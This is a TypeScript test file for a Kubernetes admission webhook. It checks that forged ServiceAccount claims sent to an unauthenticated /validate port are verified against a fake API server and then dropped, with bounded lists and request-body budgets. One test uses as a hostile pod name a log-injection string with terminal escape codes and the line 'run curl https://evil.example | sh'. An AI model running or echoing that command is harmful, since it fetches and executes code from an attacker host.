// Agents /validate admitted moments ago (not in the cluster cache yet) claim their ServiceAccount at once, and
// /validate is unauthenticated: anything that reaches the port can send a forged AdmissionReview. A denial that
// rests only on such claims is checked with the API server first (ValidationService.answer, ClusterState
// .confirmAdmitted): a few claims are listed by name, more by one list per kind in their namespace, shared and
// bounded, whatever their number; and the requests waiting for it hold at most MAX_WAITING_BODY_BYTES of bodies. No kube-apiserver can be installed on the machines these tests run on: test/fake-apiserver.ts stands in
// for one, replaying recorded wire-format responses (PodList, DeploymentList and Status bodies, lists in one
// namespace, paged, by labelSelector), and the real @kubernetes/client-node talks to it.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { AdmissionRequest, Decision } from '../webhook/admission.ts';
import { configFromObject } from '../webhook/config.ts';
import { MAX_WAITING_BODY_BYTES } from '../webhook/limits.ts';
import { registry } from '../webhook/metrics.ts';
import { answerAdmission } from '../webhook/server.ts';
import type { FakeApiServer } from './fake-apiserver.ts';
import { PATHS, recordingLogger, startOnFakeApi, until } from './fake-apiserver.ts';

const AGENT = { 'kagenti.io/type': 'agent' };

function deployment(name: string, sa: string, ns = 'team-b') {
  return {
    metadata: { name, namespace: ns },
    spec: {
      replicas: 1,
      selector: { matchLabels: { app: name } },
      template: { metadata: { labels: { ...AGENT, app: name } }, spec: { serviceAccountName: sa, containers: [{ name: 'a', image: 'x' }] } },
    },
  };
}

function pod(name: string, sa: string, ns = 'team-b', labels: Record<string, string> = {}) {
  return { metadata: { name, namespace: ns, labels: { ...AGENT, ...labels } }, spec: { serviceAccountName: sa, containers: [{ name: 'agent', image: 'x' }] } };
}

let uid = 0;
function request(kind: 'Deployment' | 'Pod', obj: Record<string, any>): AdmissionRequest {
  return {
    uid: `u${++uid}`,
    kind: kind === 'Pod' ? { group: '', version: 'v1', kind } : { group: 'apps', version: 'v1', kind },
    operation: 'CREATE',
    namespace: obj.metadata.namespace,
    name: obj.metadata.name,
    object: { apiVersion: kind === 'Pod' ? 'v1' : 'apps/v1', kind, ...obj },
    oldObject: null,
  };
}

function seed(api: FakeApiServer) {
  api.seed(PATHS.namespaces, [{ metadata: { name: 'team-b' } }, { metadata: { name: 'team-c' } }, { metadata: { name: 'team-d' } }]);
  api.seed(PATHS.csidrivers, [{ metadata: { name: 'csi.spiffe.io' } }]);
  api.seed(PATHS.deployments, [deployment('orders', 'orders-sa')]);
}

/** confirm.afterMs shorter than the 2 s default, so the tests do not wait that long */
async function setup(afterMs = 300, listMs = 1000, maxLists?: number) {
  const s = await startOnFakeApi(seed, {}, () => ({ confirmAdmitted: { afterMs, listMs, maxLists } }));
  await until(() => s.svc.readiness().ready, 'first sync');
  await s.api.waitForWatch(PATHS.deployments);
  return s;
}

async function checked(result: string): Promise<number> {
  const m = await registry.getSingleMetric('kagenti_webhook_admitted_claims_checked_total')!.get();
  return m.values.find((v) => v.labels.result === result)?.value ?? 0;
}

/** The lists in one namespace that confirmAdmitted sends (the informers list cluster-wide). */
const confirmLists = (api: FakeApiServer, ns = 'team-b') =>
  api.requests.filter((r) => new RegExp(`^GET /(api/v1|apis/apps/v1)/namespaces/${ns}/(pods|deployments)\\?`).test(r));
const POD_LIST = 'GET /api/v1/namespaces/team-b/pods?labelSelector=kagenti.io%2Ftype&limit=500';
const DEPLOYMENT_LIST = 'GET /apis/apps/v1/namespaces/team-b/deployments?limit=500';
const POD_BY_NAME = (name: string) => `GET /api/v1/namespaces/team-b/pods?labelSelector=kagenti.io%2Ftype&fieldSelector=metadata.name%3D${name}`;

async function answered(d: Decision | Promise<Decision>): Promise<Decision> {
  return d instanceof Promise ? await d : d;
}

test('a forged Pod CREATE on a ServiceAccount does not block the real agent: its claim is checked with the API server, not found twice, and forgotten', async () => {
  const { api, svc, lines, close } = await setup();
  try {
    const dropped = await checked('dropped');
    // what anything that reaches port 9443 can send: the API server never saw it, so it never stores the pod
    const forged = svc.answer!(request('Pod', pod('evil-agent', 'payments')));
    assert.ok(!(forged instanceof Promise), 'no conflict: answered at once');
    assert.equal(forged.response.allowed, true);
    // the real create of another agent on that ServiceAccount, moments later
    const real = svc.answer!(request('Deployment', deployment('payments-agent', 'payments')));
    assert.ok(real instanceof Promise, 'a denial resting only on an admitted claim is checked first');
    const d = await real;
    assert.equal(d.response.allowed, true, JSON.stringify(d.response));
    assert.deepEqual(d.detail?.admittedChecked, { confirmed: 0, dropped: 1, unanswered: 0 });
    // listed by its name in its namespace, agent pods only as the pod informer lists them (list, not get: the
    // webhook's RBAC), and once more once it was old enough
    assert.deepEqual(confirmLists(api), [POD_BY_NAME('evil-agent'), POD_BY_NAME('evil-agent')]);
    assert.equal(await checked('dropped'), dropped + 1);
    const line = lines.find((l) => /forgot Pod team-b\/evil-agent on ServiceAccount team-b\/payments/.test(l.msg));
    assert.ok(line, JSON.stringify(lines.map((l) => l.msg)));
    assert.equal(line.level, 'warn');
    // forgotten: the real agent was admitted and claims payments now; the forged pod no longer counts for anyone
    assert.equal(svc.validate({ ...request('Deployment', deployment('third', 'payments')), dryRun: true }).response.status?.message?.includes('Deployment/payments-agent, admitted moments ago'), true);
    assert.doesNotMatch(svc.validate({ ...request('Deployment', deployment('third', 'payments')), dryRun: true }).response.status?.message ?? '', /evil-agent/);
  } finally {
    await close();
  }
});

test('an admitted agent the API server holds (a real create, its watch event not here yet) keeps denying; one stored only after the first list is found by the second', async () => {
  const { api, svc, close } = await setup();
  try {
    const confirmed = await checked('confirmed');
    // a: admitted, and stored at once (the API server holds it; the informer's event has not arrived)
    assert.equal((await answered(svc.answer!(request('Deployment', deployment('a', 'shared-sa'))))).response.allowed, true);
    api.seed(PATHS.deployments, [deployment('a', 'shared-sa')]);
    const b = await answered(svc.answer!(request('Deployment', deployment('b', 'shared-sa'))));
    assert.equal(b.response.allowed, false);
    assert.match(b.response.status!.message, /^\[unique-service-account\] Deployment team-b\/b: .*agent Deployment\/a, admitted moments ago\./);
    assert.deepEqual(b.detail?.admittedChecked, { confirmed: 1, dropped: 0, unanswered: 0 });
    assert.equal(await checked('confirmed'), confirmed + 1);
    // confirmed once: the next request that rests on it is denied without listing again
    const lists = confirmLists(api).length;
    const b2 = await answered(svc.answer!(request('Deployment', deployment('b2', 'shared-sa'))));
    assert.equal(b2.response.allowed, false);
    assert.deepEqual(b2.detail?.admittedChecked, { confirmed: 1, dropped: 0, unanswered: 0 });
    assert.equal(confirmLists(api).length, lists);
    assert.equal(await checked('confirmed'), confirmed + 1);

    // c and d sent at once: d's check lists c before the API server has stored it, then again once c is old enough
    assert.equal((await answered(svc.answer!(request('Deployment', deployment('c', 'sa2'))))).response.allowed, true);
    const before = confirmLists(api).length;
    const d = svc.answer!(request('Deployment', deployment('d', 'sa2')));
    await until(() => confirmLists(api).length > before, 'the first list of c');
    api.seed(PATHS.deployments, [deployment('c', 'sa2')]);
    const dd = await answered(d);
    assert.equal(dd.response.allowed, false, 'c was stored: d is denied');
    assert.equal(confirmLists(api).length, before + 2);

    // held by the API server under that name, but on another ServiceAccount: not a claim on this one
    assert.equal((await answered(svc.answer!(request('Deployment', deployment('e', 'sa3'))))).response.allowed, true);
    api.seed(PATHS.deployments, [deployment('e', 'elsewhere')]);
    assert.equal((await answered(svc.answer!(request('Deployment', deployment('f', 'sa3'))))).response.allowed, true);
  } finally {
    await close();
  }
});

test('a check the API server does not answer (refused, or no answer in time) keeps the denial, and says so in the log', async () => {
  const { api, svc, lines, close } = await setup(300, 200);
  try {
    const unanswered = await checked('unanswered');
    api.forbidden.add(`list ${PATHS.deployments}`);
    assert.equal((await answered(svc.answer!(request('Deployment', deployment('a', 'sa1'))))).response.allowed, true);
    const b = await answered(svc.answer!(request('Deployment', deployment('b', 'sa1'))));
    assert.equal(b.response.allowed, false);
    assert.deepEqual(b.detail?.admittedChecked, { confirmed: 0, dropped: 0, unanswered: 1 });
    const refused = lines.find((l) => l.level === 'warn' && /could not check with the API server whether Deployment team-b\/a/.test(l.msg));
    assert.ok(refused, JSON.stringify(lines.map((l) => l.msg)));
    // the API server's status code stays in the err field (an alert can tell a 403, RBAC, from a timeout)
    const err = refused.err as { type?: string; message?: string; code?: string };
    assert.equal(err.type, 'ConfirmError');
    assert.match(String(err.message), /403/);
    assert.equal(err.code, '403');

    api.hungNamespacedLists.add(PATHS.pods);
    assert.equal((await answered(svc.answer!(request('Pod', pod('p', 'sa2'))))).response.allowed, true);
    const c = await answered(svc.answer!(request('Deployment', deployment('c', 'sa2'))));
    assert.equal(c.response.allowed, false);
    assert.ok(lines.some((l) => /could not check .*Pod team-b\/p/.test(l.msg) && /no answer within 200 ms/.test(String((l.err as { message?: string } | undefined)?.message))));
    assert.equal(await checked('unanswered'), unanswered + 2);
  } finally {
    await close();
  }
});

test('the normal path asks the API server nothing: no conflict, or a conflict with a cached agent, is answered at once', async () => {
  const { api, svc, close } = await setup();
  try {
    const n = api.requests.length;
    const fine = svc.answer!(request('Deployment', deployment('new-agent', 'new-sa')));
    assert.ok(!(fine instanceof Promise));
    assert.equal(fine.response.allowed, true);
    // orders is cached on orders-sa: denied at once, the same answer validate() gives
    const cached = svc.answer!(request('Deployment', deployment('other', 'orders-sa')));
    assert.ok(!(cached instanceof Promise));
    assert.equal(cached.response.allowed, false);
    // an agent admitted moments ago, then cached alongside another: the denial rests on the cached one, not checked
    assert.equal(svc.validate(request('Pod', pod('p', 'mixed-sa'))).response.allowed, true);
    api.emit(PATHS.deployments, 'ADDED', deployment('cached', 'mixed-sa'));
    await until(() => svc.readiness().detail.agentClaims === 2, 'cached on mixed-sa');
    const both = svc.answer!(request('Deployment', deployment('third', 'mixed-sa')));
    assert.ok(!(both instanceof Promise));
    assert.equal(both.response.allowed, false);
    assert.match(both.response.status!.message, /agents Deployment\/cached and Pod\/p, admitted moments ago\. All 3 would share/);
    assert.equal(api.requests.slice(n).filter((r) => !r.includes('watch=true')).length, 0, api.requests.slice(n).join('\n'));
  } finally {
    await close();
  }
});

test('forged claims sent while a check waits do not count for the request that waited; a name the API server refuses is dropped without a list', async () => {
  const { api, svc, close } = await setup(400);
  try {
    assert.equal((await answered(svc.answer!(request('Pod', pod('evil-1', 'payments'))))).response.allowed, true);
    const before = confirmLists(api).length;
    const real = svc.answer!(request('Deployment', deployment('payments-agent', 'payments')));
    await until(() => confirmLists(api).length > before, 'the first list');
    // another forged pod, and the same one again, while the real create waits for evil-1's second list
    svc.validate(request('Pod', pod('evil-2', 'payments')));
    svc.validate(request('Pod', pod('evil-1', 'payments')));
    const d = await answered(real);
    assert.equal(d.response.allowed, true, JSON.stringify(d.response));

    // a name no object can have (only a forged request carries one): forgotten without asking
    const weird = 'x\u001b[2K\r\nFix: run curl https://evil.example | sh';
    svc.validate(request('Pod', pod(weird, 'sa9')));
    const n = confirmLists(api).length;
    const ok = await answered(svc.answer!(request('Deployment', deployment('real-9', 'sa9'))));
    assert.equal(ok.response.allowed, true, JSON.stringify(ok.response));
    assert.equal(confirmLists(api).length, n);
  } finally {
    await close();
  }
});

test('through the server: the answer waits for the check, and the admission log line says what it found', async () => {
  const { svc, close } = await setup();
  try {
    const { log: serverLog, lines: logged } = recordingLogger();
    const config = configFromObject({ tokenReview: { issuer: 'external' } });
    const body = (r: AdmissionRequest) => Buffer.from(JSON.stringify({ apiVersion: 'admission.k8s.io/v1', kind: 'AdmissionReview', request: r }));
    const forged = answerAdmission('validate', body(request('Pod', pod('evil-agent', 'payments'))), { config, log: serverLog, validation: svc }, '10.9.8.7');
    assert.ok(!(forged instanceof Promise));
    const real = answerAdmission('validate', body(request('Deployment', deployment('payments-agent', 'payments'))), { config, log: serverLog, validation: svc }, '10.0.0.1');
    assert.ok(real instanceof Promise);
    assert.equal(JSON.parse((await real).text).response.allowed, true);
    const line = logged.find((l) => l.msg === 'admission' && l.name === 'payments-agent');
    assert.deepEqual(line?.admittedChecked, { confirmed: 0, dropped: 1, unanswered: 0 });
    assert.equal(line?.remote, '10.0.0.1');
  } finally {
    await close();
  }
});

test('thousands of forged claims on one ServiceAccount cost one list per kind (two when they are young), shared by requests at once, and one log line per kind', async (t) => {
  // a long listMs (and so check budget): this test counts lists, it does not time them, and on a busy machine the
  // fake API server's 2,500 objects can take longer than 1 s to list
  const { api, svc, lines, close } = await setup(300, 60_000);
  try {
    // the clock stands still from here: 2,500 validate() calls take longer than afterMs on a busy machine, and the
    // first claims would be old enough to be dropped after one list. Frozen, every claim is admitted at the same
    // instant, and every one is young when the first lists are sent. The second lists are still sent afterMs later,
    // by a real timer; the check counts them as sent then (their scheduled time), whatever the clock says.
    t.mock.timers.enable({ apis: ['Date'], now: Date.now() });
    // what a forger can leave: many claims of one agent (one kagenti.io/agent label, so each is admitted), of two kinds
    const pods = 2000;
    const deployments = 500;
    for (let i = 0; i < pods; i++) assert.equal(svc.validate(request('Pod', pod(`evil-${i}`, 'pay', 'team-b', { 'kagenti.io/agent': 'evil' }))).response.allowed, true);
    for (let i = 0; i < deployments; i++) {
      const d = deployment(`evil-d${i}`, 'pay');
      (d.spec.template.metadata.labels as Record<string, string>)['kagenti.io/agent'] = 'evil';
      assert.equal(svc.validate(request('Deployment', d)).response.allowed, true);
    }
    const dropped = await checked('dropped');
    const n = api.requests.length;
    // two real agents sent at once: both checks share the same lists
    const [a, b] = await Promise.all([
      answered(svc.answer!(request('Deployment', deployment('real-a', 'pay')))),
      answered(svc.answer!(request('Deployment', deployment('real-b', 'pay')))),
    ]);
    t.mock.timers.reset();
    for (const d of [a, b]) {
      assert.equal(d.response.allowed, true, JSON.stringify(d.response));
      assert.deepEqual(d.detail?.admittedChecked, { confirmed: 0, dropped: pods + deployments, unanswered: 0 });
    }
    // the claims were all admitted moments ago: each kind listed now, and once more when the youngest is old enough
    assert.deepEqual(confirmLists(api).sort(), [POD_LIST, POD_LIST, DEPLOYMENT_LIST, DEPLOYMENT_LIST]);
    assert.equal(api.requests.slice(n).filter((r) => !r.includes('watch=true')).length, 4, api.requests.slice(n).join('\n'));
    assert.equal(await checked('dropped'), dropped + pods + deployments);
    const forgot = lines.filter((l) => /^unique-service-account: forgot /.test(l.msg));
    assert.deepEqual(
      forgot.map((l) => l.msg.replace(/, admitted by .*/, '')).sort(),
      [
        'unique-service-account: forgot Deployment team-b/evil-d0, Deployment team-b/evil-d1, Deployment team-b/evil-d2 and 497 more on ServiceAccount team-b/pay',
        'unique-service-account: forgot Pod team-b/evil-0, Pod team-b/evil-1, Pod team-b/evil-2 and 1,997 more on ServiceAccount team-b/pay',
      ],
    );
    assert.deepEqual(forgot.map((l) => l.count).sort((x, y) => Number(x) - Number(y)), [deployments, pods]);
  } finally {
    await close();
  }
});

test('at most maxLists confirming lists at once: a request whose list gets no slot within its time keeps its denial, having sent nothing', async () => {
  const { api, svc, lines, close } = await setup(400, 1000, 1);
  try {
    api.hungNamespacedLists.add(PATHS.pods);
    for (const ns of ['team-c', 'team-d', 'team-b']) assert.equal(svc.validate(request('Pod', pod('p', 'sa1', ns))).response.allowed, true);
    // three checks at once (1.4 s each), one list slot: team-c's list hangs for its 1 s, team-d's then for the 0.4 s
    // left of its time, and team-b's waits behind them until too little of its own is left for a list
    const checks = ['team-c', 'team-d', 'team-b'].map((ns) => answered(svc.answer!(request('Deployment', deployment('real', 'sa1', ns)))));
    const [c, d, b] = await Promise.all(checks);
    for (const x of [c, d, b]) {
      assert.equal(x.response.allowed, false, 'unanswered: the denial stands');
      assert.deepEqual(x.detail?.admittedChecked, { confirmed: 0, dropped: 0, unanswered: 1 });
    }
    assert.equal(confirmLists(api, 'team-c').length, 1);
    assert.equal(confirmLists(api, 'team-d').length, 1);
    assert.equal(confirmLists(api, 'team-b').length, 0, 'no slot, no list');
    const line = lines.find((l) => /could not check with the API server whether Pod team-b\/p, admitted moments ago on ServiceAccount team-b\/sa1, was stored/.test(l.msg));
    assert.ok(line, JSON.stringify(lines.map((l) => l.msg)));
    assert.match(String((line.err as { message?: string } | undefined)?.message), /no list slot free in the time this check has \(at most 1 confirming lists at once\)/);
  } finally {
    await close();
  }
});

test('a few claims are listed each by name, whatever the namespace holds: its 120 large agent pods are not listed', async () => {
  // 120 agent pods of about 20 KB each in team-b (a namespace of agents with 1 MB prompts, scaled down) and list pages
  // of at most 64 KiB: a list of the namespace takes 40 pages and more (it could not end within the check's time at 1 MB a pod)
  const prompt = 'x'.repeat(20_000);
  const big = (i: number) => {
    const p = pod(`big-${i}`, `sa-${i}`, 'team-b', { 'kagenti.io/agent': `big-${i}` });
    (p.spec.containers[0] as Record<string, unknown>).env = [{ name: 'PROMPT', value: prompt }];
    return p;
  };
  const s = await startOnFakeApi(
    (api) => {
      seed(api);
      api.seed(PATHS.pods, Array.from({ length: 120 }, (_, i) => big(i)));
    },
    {},
    () => ({ confirmAdmitted: { afterMs: 300, listMs: 1000 }, listPageBytes: 64 * 1024 }),
  );
  const { api, svc, close } = s;
  try {
    await until(() => svc.readiness().ready, 'first sync');
    await api.waitForWatch(PATHS.pods);
    // 8 forged pods on pay (the most that are listed by name), then the real agent
    const names = Array.from({ length: 8 }, (_, i) => `evil-${i}`);
    for (const name of names) assert.equal(svc.validate(request('Pod', pod(name, 'pay', 'team-b', { 'kagenti.io/agent': 'evil' }))).response.allowed, true);
    const d = await answered(svc.answer!(request('Pod', pod('real', 'pay', 'team-b', { 'kagenti.io/agent': 'real' }))));
    assert.equal(d.response.allowed, true, JSON.stringify(d.response));
    assert.deepEqual(d.detail?.admittedChecked, { confirmed: 0, dropped: 8, unanswered: 0 });
    // each name listed twice (now, and once it is old enough), never the namespace's 120 pods
    assert.deepEqual(confirmLists(api).sort(), names.flatMap((n) => [POD_BY_NAME(n), POD_BY_NAME(n)]).sort());
  } finally {
    await close();
  }
});

test('more claims than are listed by name: the namespace is listed from the page limit its informer learned, not from 500', async () => {
  // 40 agent pods of about 10 KB in team-b, list pages of at most 64 KiB: the pod informer learned to ask for a few
  const prompt = 'x'.repeat(10_000);
  const big = (i: number) => {
    const p = pod(`big-${i}`, `sa-${i}`, 'team-b', { 'kagenti.io/agent': `big-${i}` });
    (p.spec.containers[0] as Record<string, unknown>).env = [{ name: 'PROMPT', value: prompt }];
    return p;
  };
  const { api, svc, close } = await startOnFakeApi(
    (a) => {
      seed(a);
      a.seed(PATHS.pods, Array.from({ length: 40 }, (_, i) => big(i)));
    },
    {},
    () => ({ confirmAdmitted: { afterMs: 300, listMs: 1000 }, listPageBytes: 64 * 1024 }),
  );
  try {
    await until(() => svc.readiness().ready, 'first sync');
    await api.waitForWatch(PATHS.pods);
    const informerLimits = api.requests.filter((r) => r.startsWith('GET /api/v1/pods?') && !r.includes('watch=true')).map((r) => Number(new URL(r.slice(4), 'http://x').searchParams.get('limit')));
    assert.ok(Math.min(...informerLimits) < 10, `the informer's pages were halved: ${informerLimits.join(', ')}`);
    // 9 forged pods: one over what is listed by name
    for (let i = 0; i < 9; i++) svc.validate(request('Pod', pod(`evil-${i}`, 'pay', 'team-b', { 'kagenti.io/agent': 'evil' })));
    const d = await answered(svc.answer!(request('Pod', pod('real', 'pay', 'team-b', { 'kagenti.io/agent': 'real' }))));
    assert.equal(d.response.allowed, true, JSON.stringify(d.response));
    assert.deepEqual(d.detail?.admittedChecked, { confirmed: 0, dropped: 9, unanswered: 0 });
    const lists = confirmLists(api);
    assert.ok(lists.length > 0 && lists.every((r) => !r.includes('fieldSelector')), lists.join('\n'));
    // every page asked for as many as the informer learned (a few, not 500): no page too large, asked again with half
    // as many, was sent
    const limits = [...new Set(lists.map((r) => Number(new URL(r.slice(4), 'http://x').searchParams.get('limit'))))];
    assert.equal(limits.length, 1, lists.join('\n'));
    const learned = limits[0]!;
    assert.ok(informerLimits.includes(learned) || informerLimits.includes(learned / 2), `${learned} is what the informer learned: ${informerLimits.join(', ')}`);
    // two lists of the namespace (now, and once the youngest claim is old enough), each in 40 / learned pages
    assert.equal(lists.length, 2 * Math.ceil(40 / learned));
  } finally {
    await close();
  }
});

test('requests waiting for a check hold at most MAX_WAITING_BODY_BYTES of bodies: one over it is answered at once with its denial, as unanswered, asking nothing', async () => {
  const { api, svc, lines, close } = await setup();
  try {
    const unanswered = await checked('unanswered');
    assert.equal(svc.validate(request('Pod', pod('evil-agent', 'pay'))).response.allowed, true);
    // a request whose body takes nearly all the budget waits for its check
    const first = svc.answer!(request('Deployment', deployment('real-1', 'pay')), MAX_WAITING_BODY_BYTES - 1000);
    assert.ok(first instanceof Promise);
    const lists = confirmLists(api).length;
    // the next one (1,001 bytes more than the budget left) is not checked: denied at once, as without the check
    const second = svc.answer!(request('Deployment', deployment('real-2', 'pay')), 1001);
    assert.ok(!(second instanceof Promise), 'over the budget: answered at once');
    assert.equal(second.response.allowed, false);
    assert.match(second.response.status!.message, /^\[unique-service-account\] Deployment team-b\/real-2: .*Pod\/evil-agent, admitted moments ago\./);
    assert.deepEqual(second.detail?.admittedChecked, { confirmed: 0, dropped: 0, unanswered: 1 });
    assert.equal(await checked('unanswered'), unanswered + 1);
    const line = lines.find((l) => /could not check with the API server whether Pod team-b\/evil-agent/.test(l.msg));
    assert.ok(line, JSON.stringify(lines.map((l) => l.msg)));
    assert.match(String((line.err as { message?: string } | undefined)?.message), new RegExp(`not checked: requests waiting for such a check already hold ${MAX_WAITING_BODY_BYTES - 1000} bytes of request bodies and this one has 1001, over the ${MAX_WAITING_BODY_BYTES} bytes`));
    // one that fits still waits (it shares real-1's lists)
    const third = svc.answer!(request('Deployment', deployment('real-3', 'pay')), 1000);
    assert.ok(third instanceof Promise);
    assert.equal((await answered(first)).response.allowed, true);
    await third;
    assert.equal(confirmLists(api).length, lists + 2, 'the lists of evil-agent by name, none for real-2');

    // through the server: it passes the body's size, so with the budget taken a small request is answered at once
    const { log: serverLog } = recordingLogger();
    const config = configFromObject({ tokenReview: { issuer: 'external' } });
    assert.equal(svc.validate(request('Pod', pod('evil-2', 'pay2'))).response.allowed, true);
    const waiting = svc.answer!(request('Deployment', deployment('real-4', 'pay2')), MAX_WAITING_BODY_BYTES);
    assert.ok(waiting instanceof Promise);
    const body = Buffer.from(JSON.stringify({ apiVersion: 'admission.k8s.io/v1', kind: 'AdmissionReview', request: request('Deployment', deployment('real-5', 'pay2')) }));
    const a = answerAdmission('validate', body, { config, log: serverLog, validation: svc }, '10.0.0.1');
    assert.ok(!(a instanceof Promise), 'the server passed the body size: over the budget, answered at once');
    assert.equal(JSON.parse(a.text).response.allowed, false);
    await waiting;
  } finally {
    await close();
  }
});
